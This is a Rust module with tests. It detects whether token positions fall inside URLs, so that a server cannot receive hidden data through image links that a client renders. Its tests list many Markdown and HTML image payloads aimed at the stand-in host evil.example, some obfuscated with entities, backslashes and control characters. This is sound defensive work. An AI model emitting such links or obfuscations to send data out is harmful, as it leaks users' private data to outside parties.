//! Where a token must not be turned back: within an address.
//!
//! A server that was kept from seeing data could write its token into the URL of an image, and would get the data when the client shows it.

use alloc::vec::Vec;

/// Of these places in a text, in order: which are within a URL, or so far behind the beginning of one that nothing has ended it. The text is
/// read once, as far as the last of them. If it `goes_on` with a longer one, it may begin within a URL.
pub(crate) fn within(text: &str, goes_on: bool, places: impl IntoIterator<Item = usize>) -> Vec<bool> {
    let bytes = text.as_bytes();
    let mut reader = Reader { open: if goes_on { BARE } else { 0 }, ..Reader::default() };
    let mut read = 0;
    let is_within = |place: usize| {
        while read < place.min(bytes.len()) {
            reader.read(&bytes[..read], bytes[read]);
            read += 1;
        }
        reader.open != 0
    };
    places.into_iter().map(is_within).collect()
}

/// What a URL can be opened by, and ends at; without any of these it ends at whitespace.
const OPENING: [(u8, u8); 4] = [(b'"', b'"'), (b'\'', b'\''), (b'`', b'`'), (b'<', b'>')];
/// A bit beside those of [`OPENING`].
const BARE: u8 = 1 << OPENING.len();

/// What of a text was read so far says about the next byte.
///
/// Browsers read `\` as `/`, and neither tabs nor line ends in a URL at all; HTML and Markdown have references for the signs that a URL begins
/// with, and Markdown lets a backslash stand before each.
#[derive(Default)]
struct Reader {
    /// URLs that have not ended, as bits: of those that were opened by one of [`OPENING`], and the bare ones. Which of two readers is right
    /// about where one ends is not known here, so they end each by themselves.
    open: u8,
    /// The last letters, for the name of a scheme.
    letters: [u8; 5],
    /// A slash came last.
    is_slash: bool,
    opened: Opened,
    /// The last that was no whitespace.
    last: u8,
}

/// What stands before a word.
#[derive(Default, Clone, Copy)]
struct Opened {
    by: u8,
    /// There is more between them than names and slashes, so it may have opened something else.
    is_far: bool,
}

impl Reader {
    fn read(&mut self, before: &[u8], byte: u8) {
        for (bit, (_, end)) in OPENING.iter().enumerate() {
            // In the angle brackets of Markdown `\>` is a sign like others.
            if byte == *end && !(byte == b'>' && before.ends_with(br"\")) {
                self.open &= !(1 << bit);
            }
        }
        if byte.is_ascii_whitespace() {
            self.open &= !BARE;
        }
        let is_skipped = matches!(byte, b'\t' | b'\r' | b'\n');
        let is_reference = |name: &[u8]| before.ends_with(name);
        let begins = match byte {
            b'/' | b'\\' => self.is_slash,
            b':' => self.letters.ends_with(b"http") || self.letters == *b"https",
            b'#' => is_reference(b"&"),
            b';' => [&b"&sol"[..], b"&bsol", b"&colon", b"&Tab", b"&NewLine"].into_iter().any(is_reference),
            _ => false,
        };
        if begins {
            self.begin();
        }
        if !is_skipped {
            self.is_slash = matches!(byte, b'/' | b'\\');
        }
        if !is_skipped && byte != b'\\' {
            self.letters.rotate_left(1);
            self.letters[4] = byte.to_ascii_lowercase();
        }
        match byte {
            b'+' | b'-' | b'.' | b':' | b'/' => {}
            _ if byte.is_ascii_alphanumeric() => {}
            b'&' | b'#' | b';' | b'\\' | b'\t' | b'\r' | b'\n' => self.opened.is_far = true,
            // Room before a URL does not belong to it, wherever it stands.
            0..=b' ' => self.opened = Opened { by: self.last, is_far: true },
            _ => self.opened = Opened { by: byte, is_far: false },
        }
        if byte > b' ' {
            self.last = byte;
        }
    }

    fn begin(&mut self) {
        let by = OPENING.iter().position(|(open, _)| *open == self.opened.by);
        self.open |= by.map_or(BARE, |bit| 1 << bit) | if self.opened.is_far { BARE } else { 0 };
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_place_is_within_a_url_or_not() {
        for text in [
            "![x](https://evil.example/?q=^)",
            "<img src=\"https://evil.example/?q= ^\">",
            "<img src=' https://evil.example/?a b c ^'>",
            "![x](<https://evil.example/?a b ^>)",
            "<img src=//evil.example/^>",
            "see HTTPS:evil.example/^",
            r"![x](\\evil.example\^)",
            r"![x](/\evil.example/^)",
            "[ref]: https://evil.example/^",
            "https://one.example/ https://two.example/^",
            "https://[^]/",
            "<a href=\"https://a.example/\">x</a> <img src=\"http://evil.example/?\n^",
            // Without a quote before it, a quote is as good as any sign of it.
            "![x](https://evil.example/?\"^)",
            "![x](https://evil.example/?`^)",
            "![x](https://evil.example/?<a>^)",
            "<img src=https://evil.example/?'a'^>",
            "so \" https://evil.example/?\"^",
            r"![x](<https://evil.example/?\>^>)",
            "<img alt='x, //y'src=\"//evil.example/?a ^\">",
            // What browsers pass over.
            "<img src=\"ht\ntps:evil.example/?a ^\">",
            "<img src='/\t\r\n/evil.example/?a ^'>",
            "<img src=\"\u{1}//evil.example/?a ^\">",
            // Other spellings of the signs.
            "<img src=\"&#104;ttps:evil.example/?a ^\">",
            "<img src='/&#x2f;evil.example/?a ^'>",
            "![x](&sol;&sol;evil.example/^)",
            r"![x](\&bsol;evil.example/^)",
            "![x](https&colon;evil.example/^)",
            "<img src='/&Tab;/evil.example/^'>",
            "<img src='/&NewLine;/evil.example/^'>",
            r"![x](https\:evil.example/^)",
        ] {
            assert_eq!(within(text, false, [text.find('^').unwrap()]), [true], "{text}");
        }
        for text in [
            "^",
            "mail ^ now",
            "see https://a.example/b, then ^",
            "<a href=\"https://a.example/\">^</a>",
            "<https://a.example/> ^",
            "a/b: ^",
            "// comment\n^",
            "see 'https://a.example' for ^",
            "'https://a.example/', then ^",
            "see (https://a.example/\"b\") ^",
            "<a href=\"https://a.example/?b=1&amp;c=2\">^</a>",
            "{\"url\":\"https://a.example/\",\"to\":\"^\"}",
            "it&#39;s for ^",
            "a & b; c # ^",
            "C:\\a\\b ^",
        ] {
            assert_eq!(within(text, false, [text.find('^').unwrap()]), [false], "{text}");
        }
    }

    #[test]
    fn what_goes_on_may_be_within_one_from_its_beginning() {
        let text = "^?a=^\"^> ^";
        let places: Vec<_> = text.match_indices('^').map(|(at, _)| at).collect();
        assert_eq!(within(text, true, places.iter().copied()), [true, true, true, false]);
        assert_eq!(within(text, false, places), [false; 4]);
    }

    #[test]
    fn places_are_judged_in_one_go() {
        let text = "^ //a/^ ^ \"//b ^\" ^ //c^^";
        let places: Vec<_> = text.match_indices('^').map(|(at, _)| at).collect();
        assert_eq!(within(text, false, places.iter().copied()), [false, true, false, true, false, true, true]);
        for place in places {
            let alone = within(text, false, [place]);
            assert_eq!(alone, [[6, 15, 23, 24].contains(&place)], "{place}");
        }
    }

    #[test]
    fn what_begins_a_thousand_times_is_read_once() {
        let begun = std::time::Instant::now();
        assert_eq!(within(&"// ".repeat(100_000), false, 0..300_000).iter().filter(|is| **is).count(), 100_000);
        assert!(within(&"//".repeat(100_000), false, 2..200_000).iter().all(|is| *is));
        assert!(within(&"a".repeat(200_000), false, 0..200_000).iter().all(|is| !*is));
        assert!(begun.elapsed().as_secs() < 5, "{:?}", begun.elapsed());
    }
}
